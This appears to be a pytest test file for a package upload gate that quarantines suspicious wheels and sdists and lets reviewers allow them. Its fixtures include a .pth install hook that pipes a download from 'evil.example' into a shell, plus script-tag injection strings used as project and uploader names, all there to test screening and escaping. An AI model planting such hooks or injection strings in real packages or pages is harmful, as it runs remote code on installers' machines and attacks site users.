"""The gate's review page (verify._upload.review over verify._serve): quarantined uploads
listed and detailed from their kept requests, and a reviewer's allow letting the same bytes
through on the next upload. The screening is the real one, offline; the upstream is a closed
loopback port, so a forwarded upload ends as "upstream unavailable"."""

from __future__ import annotations

import base64
import hashlib
import json
import logging
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from urllib3 import encode_multipart_formdata
from werkzeug.test import Client, TestResponse

from tests.helpers.dists import DistSpec, build_sdist, build_wheel
from tests.helpers.policies import without_provenance_requirement
from tests.helpers.pypiserver import free_port
from verify._cli import main
from verify._index.session import HttpSession
from verify._serve.decisions import Decisions
from verify._serve.review import Review
from verify._serve.reviewers import Reviewers
from verify._upload.app import GateConfig, LocalScreener, UploadGate
from verify._upload.quarantine import Quarantine
from verify._upload.review import DECISIONS_FILE, QuarantinedFiles
from verify.policy import load_policy
from verify.screen import ScreenSettings
from verify.settings import NetworkSettings, VerificationSettings

TOKEN = "correct-horse-battery-staple"
HOOK = "import os; os.system('curl http://evil.example/x | sh')"
#: An sdist's filename does not enforce a valid project name; this one is markup.
MARKUP_NAME = "<script>window.hacked=1<"
#: Uploaders name themselves (HTTP Basic), and the page shows who uploaded.
MARKUP_UPLOADER = "<script>window.hacked=1</script>"


def hooked(name: str = "acme") -> DistSpec:
    return DistSpec(name, "1.1", files={"acme/__init__.py": "", "acme_hook.pth": HOOK + "\n"})


def basic(name: str = "alice", token: str = TOKEN) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{name}:{token}".encode()).decode()}


@pytest.fixture
def gate(tmp_path: Path) -> Iterator[UploadGate]:
    tokens = tmp_path / "reviewers"
    tokens.write_text(f"alice:{TOKEN}\n", encoding="utf-8")
    settings = ScreenSettings(
        files=(),
        public_index_urls=(),
        verification=VerificationSettings(
            policy_path=without_provenance_requirement(), record=False
        ),
        network=NetworkSettings(offline=True, cache_dir=tmp_path / "cache"),
    )
    quarantine = Quarantine(tmp_path / "quarantine")
    decisions = Decisions(tmp_path / "quarantine" / DECISIONS_FILE)
    review = Review(QuarantinedFiles(quarantine), decisions, Reviewers.load(tokens), public=False)
    with HttpSession(retries=0, timeout=5) as session:
        app = UploadGate(
            GateConfig(
                upstream_url=f"http://127.0.0.1:{free_port()}/",
                work_dir=tmp_path / "quarantine" / ".spool",
            ),
            screener=LocalScreener(settings, load_policy(settings.verification.policy_path)),
            quarantine=quarantine,
            session=session,
            decisions=decisions,
            review=review,
        )
        try:
            yield app
        finally:
            app.close()


def upload(client: Client, dist: Path, name: str, uploader: str = "uploader") -> TestResponse:
    data = dist.read_bytes()
    body, content_type = encode_multipart_formdata(
        [
            (":action", "file_upload"),
            ("protocol_version", "1"),
            ("name", name),
            ("version", "1.1"),
            ("sha256_digest", hashlib.sha256(data).hexdigest()),
            ("content", (dist.name, data, "application/octet-stream")),
        ]
    )
    return client.post("/", data=body, content_type=content_type, headers=basic(uploader, "secret"))


def form_token(page: str) -> str:
    match = re.search(r'name="csrf" value="([0-9a-f]+)"', page)
    assert match, page
    return match.group(1)


def test_a_quarantined_upload_is_listed_and_detailed_with_its_flagged_line(
    gate: UploadGate, tmp_path: Path
) -> None:
    client = Client(gate)
    wheel = build_wheel(hooked(), tmp_path / "dist")
    refused = upload(client, wheel, "acme")
    assert refused.status_code == 403
    sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
    assert f"/-/review/{sha}" in refused.get_data(as_text=True)  # the uploader is told where

    assert client.get("/-/review").status_code == 401
    listed = client.get("/-/review", headers=basic())
    assert listed.status_code == 200
    assert listed.headers["Content-Security-Policy"].startswith("default-src 'none'")
    page = listed.get_data(as_text=True)
    assert "quarantined uploads" in page
    assert "acme 1.1" in page
    assert "pth-exec" in page
    assert "uploaded by uploader" in page
    assert f'href="/-/review/{sha}"' in page

    detail = client.get(f"/-/review/{sha}", headers=basic()).get_data(as_text=True)
    flagged = re.findall(r'<span class="flagged">([^<]*)</span>', detail)
    assert any("os.system(&#x27;curl http://evil.example/x | sh&#x27;)" in line for line in flagged)
    assert 'name="action" value="allow"' in detail
    assert client.get(f"/-/review/{'0' * 64}", headers=basic()).status_code == 404


def test_a_project_name_made_of_markup_is_refused_before_anything_is_kept(
    gate: UploadGate, tmp_path: Path
) -> None:
    client = Client(gate)
    sdist = build_sdist(hooked(MARKUP_NAME), tmp_path / "dist")
    refused = upload(client, sdist, MARKUP_NAME)
    assert refused.status_code == 400
    assert "not a valid project name" in refused.status
    assert "Nothing is blocked" in client.get("/-/review", headers=basic()).get_data(as_text=True)


def test_an_uploader_name_made_of_markup_is_shown_as_text(gate: UploadGate, tmp_path: Path) -> None:
    client = Client(gate)
    wheel = build_wheel(hooked(), tmp_path / "dist")
    assert upload(client, wheel, "acme", uploader=MARKUP_UPLOADER).status_code == 403
    page = client.get("/-/review", headers=basic()).get_data(as_text=True)
    assert "uploaded by &lt;script&gt;window.hacked=1&lt;/script&gt;" in page
    assert "<script>" not in page


def test_an_allowed_upload_is_forwarded_when_uploaded_again(
    gate: UploadGate,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    client = Client(gate)
    wheel = build_wheel(hooked(), tmp_path / "dist")
    sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
    assert upload(client, wheel, "acme").status_code == 403
    url = f"/-/review/{sha}"
    token = form_token(client.get(url, headers=basic()).get_data(as_text=True))
    decided = client.post(
        url, headers=basic(), data={"csrf": token, "action": "allow", "reason": "our own hook"}
    )
    assert decided.status_code == 303
    assert "allowed by alice" in client.get("/-/review", headers=basic()).get_data(as_text=True)

    with caplog.at_level(logging.INFO, logger="verify.gate"):
        again = upload(client, wheel, "acme")
    # Forwarded: the (closed) upstream is the one that failed it, not the screening.
    assert again.status_code == 503
    assert "upstream index" in again.status
    (record,) = [json.loads(r.getMessage()) for r in caplog.records if '"event"' in r.getMessage()]
    assert record["decision"] == "upstream-unavailable"
    assert record["allowed_by"] == "alice"
    assert record["allowed_because"] == "our own hook"
    # Other bytes of the same release are not covered by the allow.
    other = build_wheel(
        DistSpec("acme", "1.1", files={"acme/__init__.py": "#\n", "acme_hook.pth": HOOK + "\n"}),
        tmp_path / "other",
    )
    assert upload(client, other, "acme").status_code == 403
    # The quarantine's own command shows the decision too.
    assert main(["quarantine", "--quarantine", str(tmp_path / "quarantine"), "show", sha]) == 0
    assert "alice: allow: our own hook" in capsys.readouterr().out


def test_a_gate_without_reviewers_serves_no_review_page(tmp_path: Path) -> None:
    with HttpSession(retries=0, timeout=5) as session:
        app = UploadGate(
            GateConfig(upstream_url="http://127.0.0.1:9/", work_dir=tmp_path / "spool"),
            screener=LocalScreener(ScreenSettings(files=()), load_policy(None)),
            quarantine=Quarantine(tmp_path / "quarantine"),
            session=session,
        )
        try:
            assert Client(app).get("/-/review").status_code == 404
        finally:
            app.close()
